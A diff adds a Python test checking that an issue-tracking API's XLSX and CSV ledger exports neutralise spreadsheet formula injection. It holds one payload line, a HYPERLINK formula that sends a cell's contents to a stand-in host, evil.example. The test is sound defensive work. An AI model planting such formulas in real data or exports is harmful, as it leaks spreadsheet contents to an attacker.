@@ -17,7 +17,8 @@ from api.settings import Settings
 from bench.clock import Clock, stamping
 from domain.commands.officer import RegisterOfficer
 from domain.model.officer import Role
-from tests.api.conftest import SECRET, Caller
+from tests.api import bodies
+from tests.api.conftest import SECRET, Api, Caller
 from tests.factories import meta
 from tests.projections.hand_built import LAND, POWER, Spring, at, build
 
@@ -281,3 +282,25 @@ def test_the_board_filters_by_stage_and_jurisdiction(spring_api: Any) -> None:
 def test_arguments_out_of_bounds_are_422(spring_api: Any, path: str) -> None:
     _, home, _ = spring_api
     get(home, path, status=422)
+
+
+def test_a_description_that_reads_like_a_formula_is_exported_as_text(
+    fresh_api: Api,
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"详情")'
+    raised = fresh_api.as_("officer").post(
+        "/issues", bodies.an_issue(fresh_api.home) | {"description": formula}
+    )
+    assert raised.status_code == 201
+    fresh_api.catch_up()
+    supervisor = fresh_api.as_("supervisor")
+    book = openpyxl.load_workbook(
+        io.BytesIO(get(supervisor, "/ledgers/issues?format=xlsx").data)
+    )
+    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
+    written = next(cell for cell in cells if cell.value == formula)
+    assert written.data_type == "s"  # shown as written, never evaluated
+    text = get(supervisor, "/ledgers/issues?format=csv").data.decode("utf-8-sig")
+    found = {cell for row in csv.reader(io.StringIO(text)) for cell in row}
+    assert "'" + formula in found
+    assert formula not in found
